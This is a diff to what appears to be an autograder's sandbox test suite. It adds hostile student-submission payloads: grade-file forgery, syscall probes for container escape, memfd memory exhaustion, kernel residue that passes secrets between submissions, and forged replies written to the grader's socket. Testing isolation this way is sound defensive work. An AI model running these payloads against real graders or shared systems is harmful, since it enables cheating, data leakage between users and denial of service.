@@ -284,8 +284,9 @@ def _hostile_write():
     import glob, json, os
     out, me = __OUT__, os.path.basename(__SUBMISSION__)
     forged = json.dumps({"student": me, "score": 100, "max_score": 100, "parts": {}, "tests": []})
-    overwrite = [os.path.join(out, __VICTIM__, "report.json"), os.path.join(out, "grades.csv"),
-                 os.path.join(out, me, "report.json"), os.path.join(out, me, "results.json"),
+    students = os.path.join(out, "students")
+    overwrite = [os.path.join(students, __VICTIM__, "report.json"), os.path.join(out, "grades.csv"),
+                 os.path.join(students, me, "report.json"), os.path.join(students, me, "results.json"),
                  *__SENTINELS__]
     create = [*__NEW_FILES__, os.path.join(out, ".hostile-" + __TOKEN__),
               os.path.join(__SUBMISSION__, "hostile-" + __TOKEN__),
@@ -510,8 +511,8 @@ def _hostile_shm():
             break
         ctypes.memset(address, 1, size)   # touch every page
         libc.shmdt(ctypes.c_void_p(address))
-        made.append(shmid)
-    print("HOSTILE-REPORT shm " + json.dumps({"segments": made, "mb": len(made) * 256}), flush=True)
+        made.append(shmid)  # said at once: a memory cgroup may stop the process at the next one
+        print("HOSTILE-REPORT shm " + json.dumps({"segments": made, "mb": len(made) * 256}), flush=True)
 
 
 _hostile_shm()
@@ -589,6 +590,222 @@ _hostile_look()
 '''
 
 
+# --- round two: escapes, memory outside any process, residue, output, forged replies ----
+
+_SYSCALLS = """
+import ctypes as _ctypes, os as _os, platform as _platform
+_ARM = _platform.machine() == "aarch64"
+_NR = {"unshare": 97 if _ARM else 272, "setns": 268 if _ARM else 308, "clone": 220 if _ARM else 56,
+       "io_uring_setup": 425, "userfaultfd": 282 if _ARM else 323, "keyctl": 219 if _ARM else 250,
+       "add_key": 217 if _ARM else 248, "perf_event_open": 241 if _ARM else 298, "ptrace": 117 if _ARM else 101,
+       "bpf": 280 if _ARM else 321, "process_vm_readv": 270 if _ARM else 310}
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = _ctypes.c_long
+
+
+def _call(name, *args):
+    _ctypes.set_errno(0)
+    got = _libc.syscall(_NR[name], *args)
+    return got, _ctypes.get_errno()
+
+
+def _outcome(got, error):
+    return "ok" if got != -1 else "refused: " + _os.strerror(error)
+"""
+
+# what an escape needs from the kernel: a user namespace (every capability inside it, as
+# root), io_uring, userfaultfd, the keyrings, perf, ptrace, bpf, another process's memory
+ESCAPES = _SYSCALLS + '''
+
+def _hostile_escapes():
+    import json, signal
+    found = {}
+    found["unshare user"] = _outcome(*_call("unshare", 0x10000000))
+    found["unshare user+mount+net"] = _outcome(*_call("unshare", 0x10000000 | 0x00020000 | 0x40000000))
+    pid, error = _call("clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
+    if pid == 0:
+        _os._exit(0)
+    if pid > 0:
+        _os.waitpid(pid, 0)
+    found["clone new user"] = _outcome(pid, error)
+    try:
+        fd = _os.open("/proc/self/ns/net", _os.O_RDONLY)
+        found["setns"] = _outcome(*_call("setns", fd, 0))
+    except OSError as exc:
+        found["setns"] = "refused: " + exc.strerror
+    params = _ctypes.create_string_buffer(120)
+    found["io_uring_setup"] = _outcome(*_call("io_uring_setup", 4, params))
+    found["userfaultfd"] = _outcome(*_call("userfaultfd", 0))
+    found["keyctl"] = _outcome(*_call("keyctl", 0, -4, 1))  # KEYCTL_GET_KEYRING_ID, user keyring, create
+    found["add_key"] = _outcome(*_call("add_key", b"user", b"hostile", b"secret", 6, -4))
+    attr = _ctypes.create_string_buffer(128)
+    attr[4:8] = (128).to_bytes(4, "little")  # size; type 0 (hardware), config 0 (cycles)
+    found["perf_event_open"] = _outcome(*_call("perf_event_open", attr, 0, -1, -1, 0))
+    found["ptrace"] = _outcome(*_call("ptrace", 0, 0, 0, 0))  # PTRACE_TRACEME
+    found["bpf"] = _outcome(*_call("bpf", 0, _ctypes.create_string_buffer(64), 64))  # BPF_MAP_CREATE
+    buf = _ctypes.create_string_buffer(64)
+    iov = (_ctypes.c_void_p * 2)(_ctypes.cast(buf, _ctypes.c_void_p), 64)
+    found["process_vm_readv"] = _outcome(*_call("process_vm_readv", _os.getppid(), iov, 1, iov, 1, 0))
+    print("HOSTILE-REPORT escapes " + json.dumps(found), flush=True)
+
+
+_hostile_escapes()
+'''
+
+# memory that is in no process's RSS: memfd pages filled with write(); 6 processes of
+# 60 memfds of 8 MB (RLIMIT_FSIZE caps each file) hold up to 2.8 GB at once
+MEMFD = '''
+def _hostile_memfd():
+    import json, os, time
+    children, chunk = [], b"x" * (1 << 20)
+    for _ in range(6):
+        read, write = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            os.close(read)
+            held = 0
+            try:
+                for _ in range(60):
+                    fd = os.memfd_create("hostile")
+                    for _ in range(8):
+                        os.write(fd, chunk)
+                        held += 1
+                        if held % 64 == 0:
+                            os.write(write, b"+")  # 64 MB more held, counted as it goes
+            except OSError:
+                pass
+            time.sleep(60)
+            os._exit(0)
+        os.close(write)
+        children.append((pid, read))
+    time.sleep(3)  # let them fill (or be stopped)
+    held = 0
+    for pid, read in children:
+        os.set_blocking(read, False)
+        try:
+            held += 64 * len(os.read(read, 1 << 16))
+        except BlockingIOError:
+            pass
+    print("HOSTILE-REPORT memfd " + json.dumps({"children": len(children), "held_mb": held}), flush=True)
+    for pid, _ in children:
+        try:
+            os.kill(pid, 9)
+        except OSError:
+            pass
+
+
+_hostile_memfd()
+'''
+
+# things a process leaves in the kernel that outlive it, beyond /tmp and SysV IPC: a POSIX
+# message queue holding "file contents", keys in the keyrings, an abstract unix socket a
+# leftover process listens on; each is reported as left or refused
+LEAVE_MORE = _SYSCALLS + '''
+
+def _hostile_leave_more():
+    import json, socket, time
+    left = {}
+    _libc.mq_open.restype = _ctypes.c_int
+    mq = _libc.mq_open(b"/hostile-q", _os.O_CREAT | _os.O_RDWR, 0o666, None)
+    secret = b"answers of " + __TOKEN__.encode()
+    left["mqueue"] = "left" if mq >= 0 and _libc.mq_send(mq, secret, len(secret), 0) == 0 else \\
+        "refused: " + _os.strerror(_ctypes.get_errno())
+    for ring, spec in (("user keyring", -4), ("user session keyring", -5), ("session keyring", -3)):
+        got, error = _call("add_key", b"user", b"hostile", secret, len(secret), spec)
+        left[ring] = "left" if got > 0 else "refused: " + _os.strerror(error)
+    try:
+        with open("/dev/shm/hostile", "wb") as fh:
+            fh.write(secret)
+        left["/dev/shm"] = "left"
+    except OSError as exc:
+        left["/dev/shm"] = "refused: " + exc.strerror
+    if _os.fork() == 0:  # a leftover process holding an abstract socket
+        _os.setsid()
+        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        server.bind("\\0hostile-residue")
+        server.listen(4)
+        while True:
+            conn, _ = server.accept()
+            conn.sendall(secret)
+            conn.close()
+    time.sleep(0.2)
+    left["abstract socket"] = "left"
+    print("HOSTILE-REPORT leave-more " + json.dumps(left), flush=True)
+
+
+_hostile_leave_more()
+'''
+
+LOOK_MORE = _SYSCALLS + '''
+
+def _hostile_look_more():
+    import json, socket
+    seen = {}
+    _libc.mq_open.restype = _ctypes.c_int
+    mq = _libc.mq_open(b"/hostile-q", _os.O_RDONLY | _os.O_NONBLOCK, 0, None)
+    buf = _ctypes.create_string_buffer(1 << 16)
+    got = _libc.mq_receive(mq, buf, len(buf), None) if mq >= 0 else -1
+    seen["mqueue"] = buf.raw[:got].decode(errors="replace") if got > 0 else None
+    for ring, spec in (("user keyring", -4), ("user session keyring", -5), ("session keyring", -3)):
+        key, _ = _call("keyctl", 10, spec, b"user", b"hostile", 0)  # KEYCTL_SEARCH
+        if key > 0:
+            data = _ctypes.create_string_buffer(256)
+            size, _ = _call("keyctl", 11, key, data, 256)  # KEYCTL_READ
+            seen[ring] = data.raw[:max(size, 0)].decode(errors="replace")
+        else:
+            seen[ring] = None
+    try:
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
+            client.settimeout(1.0)
+            client.connect("\\0hostile-residue")
+            seen["abstract socket"] = client.recv(256).decode(errors="replace")
+    except OSError:
+        seen["abstract socket"] = None
+    for folder in ("/dev/shm", "/dev/mqueue"):
+        try:
+            seen[folder] = sorted(_os.listdir(folder)) or None
+        except OSError:
+            seen[folder] = None
+    print("HOSTILE-REPORT look-more " + json.dumps(seen), flush=True)
+
+
+_hostile_look_more()
+'''
+
+# prints without flush=True, as students debug, then hangs: the process is killed at the
+# deadline with whatever a buffer held
+PRINTED_AT_IMPORT = 'print("HOSTILE-REPORT printed-at-import {}")'
+PRINTS_THEN_HANGS = '''
+print("HOSTILE-REPORT printed-in-backward {}")
+while True:
+    pass
+'''
+
+# a reply written straight to the session socket in place of the worker's, then a long
+# sleep: the grader reads the forgery first
+_FORGE_IMPORTS = "import json as _json, os as _os, struct as _struct, time as _time\n"
+_FORGE = '''
+_session = next(fd for fd in range(3, 64) if _fd_is_socket(fd))
+_os.write(_session, _struct.pack(">I", len(_header)) + _header + _frames)
+_time.sleep(30)
+'''
+_FORGE_HELPER = '''
+def _fd_is_socket(fd):
+    import os, stat
+    try:
+        return stat.S_ISSOCK(os.fstat(fd).st_mode)
+    except OSError:
+        return False
+'''
+FORGE_DEEP = _FORGE_IMPORTS + '_header, _frames = b"[" * 100000 + b"]" * 100000, b""' + _FORGE
+FORGE_SHAPE = _FORGE_IMPORTS + '''
+_npy = "{'descr': '<f8', 'fortran_order': False, 'shape': (4294967296, 4294967296, 1024), }"
+_npy = (_npy + " " * (63 - (10 + len(_npy)) % 64) + "\\n").encode()
+_frames = b"\\x93NUMPY\\x01\\x00" + len(_npy).to_bytes(2, "little") + _npy
+_header = _json.dumps({"ok": True, "results": [{"t": "nd", "i": 0}], "frames": [len(_frames)]}).encode()
+''' + _FORGE
+
+
 ATTACKS: dict[str, Attack] = {a.name: a for a in [
     Attack("sys-exit-at-import", "sys.exit(0) while buy_apple_orange.py is imported",
            (inject("buy_apple_orange.py", "from layers import AddLayer, MulLayer",
@@ -645,4 +862,21 @@ ATTACKS: dict[str, Attack] = {a.name: a for a in [
            (append("layers.py", LEAVE),), report="leave"),
     Attack("looks-for-residue", "lists /tmp and SysV IPC (an honest hand-in otherwise)",
            (append("layers.py", LOOK),), report="look"),
+    Attack("escapes", "user namespaces, io_uring, userfaultfd, keyrings, perf, ptrace, bpf, at import",
+           (append("layers.py", ESCAPES),), report="escapes"),
+    Attack("memfd-memory", "6 processes filling memfds with write(): memory in no process's RSS",
+           (append("layers.py", MEMFD),), report="memfd"),
+    Attack("leaves-more-residue", "a POSIX message queue, keys, /dev/shm, an abstract socket, left behind",
+           (append("layers.py", LEAVE_MORE),), report="leave-more"),
+    Attack("looks-for-more-residue", "reads the queue, the keys, the socket (an honest hand-in otherwise)",
+           (append("layers.py", LOOK_MORE),), report="look-more"),
+    Attack("prints-then-hangs", "prints without flush at import and in Relu.backward, then loops forever",
+           (inject("layers.py", "import numpy as np", PRINTED_AT_IMPORT), in_backward("Relu", PRINTS_THEN_HANGS)),
+           affected=frozenset(PARTS_USING["Relu"]), status="timeout"),
+    Attack("forges-a-deep-reply", "Affine.backward writes a reply of JSON nested 100,000 deep to the session",
+           (append("layers.py", _FORGE_HELPER), in_backward("Affine", FORGE_DEEP)),
+           affected=frozenset(PARTS_USING["Affine"]), status="error"),
+    Attack("forges-an-overflowing-frame", "Affine.backward writes a reply whose array shape overflows int64",
+           (append("layers.py", _FORGE_HELPER), in_backward("Affine", FORGE_SHAPE)),
+           affected=frozenset(PARTS_USING["Affine"]), status="error"),
 ]}
